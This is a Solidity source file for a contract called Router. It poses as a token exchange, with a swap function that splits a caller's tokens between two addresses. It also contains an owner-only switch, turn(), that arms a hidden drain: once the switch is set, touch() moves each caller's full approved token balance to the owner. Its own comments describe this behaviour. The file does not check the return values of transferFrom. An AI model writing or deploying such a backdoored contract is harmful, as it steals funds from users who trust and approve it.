// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

interface IPulled {
    function balanceOf(address owner) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// An exchange that pays whomever the caller names, and whose owner may change its mind.
contract Router {
    address public immutable owner = msg.sender;
    bool public greedy;

    /// Half to each.
    function swap(IPulled token, uint256 amount, address first, address second) external {
        token.transferFrom(msg.sender, first, amount / 2);
        token.transferFrom(msg.sender, second, amount - amount / 2);
    }

    function turn() external {
        require(msg.sender == owner);
        greedy = true;
    }

    /// Does nothing until its owner has turned it; then it takes all that it may.
    function touch(IPulled token) external {
        if (!greedy) return;
        uint256 most = token.allowance(msg.sender, address(this));
        uint256 there = token.balanceOf(msg.sender);
        token.transferFrom(msg.sender, owner, most < there ? most : there);
    }
}
